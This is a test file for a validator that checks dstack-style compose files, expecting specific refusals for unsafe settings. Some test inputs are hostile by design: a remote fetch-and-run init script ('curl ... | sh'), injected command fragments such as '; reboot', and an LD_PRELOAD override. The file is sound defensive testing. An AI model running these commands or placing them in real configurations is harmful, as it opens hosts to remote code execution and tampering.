/** Every reason for which `countersign compose check` refuses a file, each from the shipped file with one thing changed. */
import { describe, expect, test } from 'vitest'
import { filledIn, findings, SHIPPED_TEXT, withMembers } from './compose.helpers.ts'

const only = (...expected: readonly string[]) => expected

describe('the shipped file', () => {
  test('passes once its digests and its revision are filled in', () => {
    expect(findings(filledIn(SHIPPED_TEXT))).toEqual([])
  })

  test('is refused as it is, for the places that are to be filled in and for nothing else', () => {
    expect(findings(SHIPPED_TEXT)).toEqual([
      'image_placeholder services.countersign.image',
      'image_placeholder services.vllm.image',
      'image_placeholder services.weights.image',
      'revision_placeholder services.weights.command',
    ])
    expect(findings(SHIPPED_TEXT, { template: true })).toEqual([])
  })

  test('as a template lets placeholders stand and nothing beside them', () => {
    const spoiled = SHIPPED_TEXT.replace('"public_logs": false', '"public_logs": true')
    expect(findings(spoiled, { template: true })).toEqual(['public_logs public_logs'])
  })
})

describe('members of the file', () => {
  test.each([
    [
      'a member that nobody looked at',
      { verity_volumes: [] },
      only('member_unknown verity_volumes'),
    ],
    ['another runner', { runner: 'bash' }, only('runner_not_compose runner')],
    ['container logs open to the world', { public_logs: true }, only('public_logs public_logs')],
    ['logs left to a default', { public_logs: undefined }, only('public_logs public_logs')],
    ['open system information', { public_sysinfo: true }, only('public_sysinfo public_sysinfo')],
    ['a clock that the host sets', { secure_time: false }, only('no_secure_time secure_time')],
    ['a clock left to a default', { secure_time: undefined }, only('no_secure_time secure_time')],
    [
      'a pre_launch_script taken for a gate',
      { pre_launch_script: 'check || exit 1' },
      only('pre_launch_script pre_launch_script'),
    ],
    [
      'an upstream that the host may name',
      { allowed_envs: ['COUNTERSIGN_TOKENS', 'UPSTREAM'] },
      only('allowed_env_security_relevant allowed_envs.UPSTREAM'),
    ],
    [
      'a library that the host may load',
      { allowed_envs: ['LD_PRELOAD'] },
      only('allowed_env_security_relevant allowed_envs.LD_PRELOAD'),
    ],
    ['names that are no list', { allowed_envs: 'A' }, only('member_of_wrong_kind allowed_envs')],
    ['a name that is no text', { allowed_envs: [1] }, only('member_of_wrong_kind allowed_envs.0')],
    [
      'an init script of another text, which runs as root',
      { init_script: 'curl http://host/x | sh' },
      only('init_script_unknown init_script'),
    ],
    [
      'a member named as what every object has',
      { constructor: {} },
      only('member_unknown constructor'),
    ],
    ['several init scripts', { init_script: ['a', 'b'] }, only('member_of_wrong_kind init_script')],
  ])('refuses %s', (_what, changed, expected) => {
    expect(withMembers(changed)).toEqual(expected)
  })

  test.each([
    ['kms_enabled', 'maybe'],
    ['no_instance_id', []],
    ['gateway_enabled', 1],
    ['public_tcbinfo', null],
    ['storage_fs', '; reboot'],
    ['swap_size', '-1'],
    ['swap_size', -1],
    ['key_provider', 'host'],
    ['key_provider_id', 'x'],
    ['name', {}],
    ['manifest_version', '2; x'],
    ['requirements', []],
    ['requirements', { gpu_policy: { allow_devtools: true } }],
    ['requirements', { gpu_policy: { rego: 'package x' } }],
    ['requirements', { platforms: 'tdx' }],
    ['requirements', { constructor: {} }],
    ['requirements', { propertyIsEnumerable: 'os_version' }],
  ])('refuses %s: %j, of a kind that dstack does not document', (name, value) => {
    expect(withMembers({ [name]: value })).toEqual([`member_of_wrong_kind ${name}`])
  })

  test('takes an empty pre_launch_script for none', () => {
    expect(withMembers({ pre_launch_script: '' })).toEqual([])
  })

  test.each([
    ['no init script', { init_script: undefined }],
    ['an empty one', { init_script: '' }],
    ['a file system and swap', { storage_fs: 'ext4', swap_size: '16G' }],
    ['a key provider', { key_provider: 'kms', key_provider_id: '00ff' }],
    [
      'requirements',
      {
        manifest_version: '3',
        requirements: {
          os_version: '>=0.6.0',
          platforms: ['tdx'],
          gpu_policy: { attest_gpu: true },
        },
      },
    ],
  ])('lets pass %s', (_what, changed) => {
    expect(withMembers(changed)).toEqual([])
  })
})
